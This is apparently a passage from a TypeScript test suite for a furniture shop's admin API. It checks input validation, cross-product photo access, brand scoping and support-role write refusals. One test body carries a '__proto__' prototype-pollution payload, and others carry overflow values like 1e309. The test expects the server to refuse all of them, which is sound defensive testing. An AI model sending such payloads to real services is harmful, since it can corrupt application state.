        '/admin/experiments/nestwood/keep-coupon',
        { enabled: true, weights: { control: 50, keep: 50 }, version: 0, exposures: 0 },
      ],
      [
        'experiment weights for an unknown variant',
        'PUT',
        '/admin/experiments/nestwood/keep-coupon',
        { enabled: true, weights: { control: 50, keep: 50, gold: 1 }, version: 0 },
      ],
      [
        'experiment weights of 1e309',
        'PUT',
        '/admin/experiments/nestwood/keep-coupon',
        JSON.parse('{"enabled":true,"weights":{"control":1e309,"keep":0},"version":0}'),
      ],
      [
        'experiment weights of -0 and 0.5',
        'PUT',
        '/admin/experiments/nestwood/keep-coupon',
        { enabled: true, weights: { control: -0, keep: 0.5 }, version: 0 },
      ],
      [
        'experiment a __proto__ weight',
        'PUT',
        '/admin/experiments/nestwood/keep-coupon',
        JSON.parse('{"enabled":true,"weights":{"__proto__":{"x":1},"control":50,"keep":50},"version":0}'),
      ],
    ] as Array<[string, 'PUT' | 'PATCH' | 'POST', string, unknown]>) {
      const res = await owner.call(method, url, body);
      expect(res.statusCode, `${label}: ${res.body.slice(0, 200)}`).toBe(400);
      expectRefusal(res, label);
    }
    expect(await audits()).toBe(before);
  });
});

describe('a photo named under another product', () => {
  it('editing, deleting or ordering a photo through a product it does not belong to: refused, nothing changed', async () => {
    const jpeg = await makeImage('jpeg', { width: 300, height: 300 });
    const bedPhoto = await uploadPhoto(
      t.app,
      owner,
      { brand: 'plume', productId: 'plume-bed' },
      { alt: 'Bed two', file: { body: jpeg, filename: 'b.jpg', type: 'image/jpeg' } },
    );
    expect(bedPhoto.statusCode, bedPhoto.body).toBe(200);
    const id = bedPhoto.json().result.id as string;
    const sofaPhoto = await uploadPhoto(
      t.app,
      owner,
      { brand: 'nestwood', productId: 'sofa' },
      { alt: 'Sofa two', file: { body: jpeg, filename: 's.jpg', type: 'image/jpeg' } },
    );
    expect(sofaPhoto.statusCode, sofaPhoto.body).toBe(200);
    const sofaPhotos = (await owner.call('GET', '/admin/catalog/products/nestwood/sofa/photos')).json().result.photos as Array<{
      id: string;
    }>;
    const before = [await audits(), await photos()];
    const sofa = '/admin/catalog/products/nestwood/sofa/photos';
    for (const [label, res] of [
      ['PATCH', await owner.call('PATCH', `${sofa}/${id}`, { alt: 'Moved', color: null, version: 1 })],
      ['DELETE', await staffRequest(t.app, owner, { method: 'DELETE', url: `${sofa}/${id}` })],
      ['order with it', await owner.call('PUT', `${sofa}/order`, { ids: [...sofaPhotos.map((p) => p.id), id] })],
      [
        'order with it instead of one',
        await owner.call('PUT', `${sofa}/order`, { ids: [...sofaPhotos.slice(1).map((p) => p.id), id] }),
      ],
      [
        'order with a duplicate',
        await owner.call('PUT', `${sofa}/order`, { ids: [...sofaPhotos.map((p) => p.id), sofaPhotos[0]!.id] }),
      ],
      [
        'order of the bed under the sofa brand',
        await owner.call('PUT', '/admin/catalog/products/nestwood/plume-bed/photos/order', { ids: [id] }),
      ],
    ] as const) {
      expect(res.statusCode, `${label}: ${res.body.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
      expectRefusal(res, label);
    }
    expect([await audits(), await photos()]).toEqual(before);
  });
});

describe('lists without a brand, for a brand-scoped member', () => {
  it('show only the member’s brands', async () => {
    const nestwoodOnly = await signedIn(t.app, await makeStaff(t.db, { role: 'owner', brands: ['nestwood'] }));
    for (const url of ['/admin/catalog/products', '/admin/coupons', '/admin/reviews', '/admin/reviews?status=published']) {
      const res = await nestwoodOnly.call('GET', url);
      expect(res.statusCode, `${url}: ${res.body.slice(0, 200)}`).toBe(200);
      expect(res.body, url).not.toMatch(/"brand":"plume"|plume-bed|PLUMEONLY/);
    }
    const experiments = await nestwoodOnly.call('GET', '/admin/experiments');
    expect(experiments.statusCode).toBeLessThan(500);
    expect(experiments.body).not.toContain('"plume"');
    const dashboard = await nestwoodOnly.call('GET', '/admin/dashboard');
    expect(dashboard.statusCode).toBeLessThan(500);
    expect(dashboard.body).not.toContain('plume');
  });
});

describe('support on every write', () => {
  it('is 403 before the body is read, and nothing changes', async () => {
    const support = await signedIn(t.app, await makeStaff(t.db, { role: 'support' }));
    const before = [await audits(), await photos()];
    for (const [method, url] of [
      ...WRITES,
      ['DELETE', '/admin/catalog/products/nestwood/sofa/photos/ph_00000000000000000000'] as const,
      ['POST', '/admin/catalog/products/nestwood/sofa/photos'] as const,
      ['POST', '/admin/coupons/nestwood/SAVE10/resume'] as const,
      ['POST', '/admin/coupons/nestwood/SAVE10/expire'] as const,
    ]) {
      const res = await raw(support, method, url, '{"version":1}');
      expect(res.statusCode, `${method} ${url}: ${res.body.slice(0, 200)}`).toBe(403);
      expectRefusal(res, `${method} ${url}`);
    }
    expect([await audits(), await photos()]).toEqual(before);
  });
});
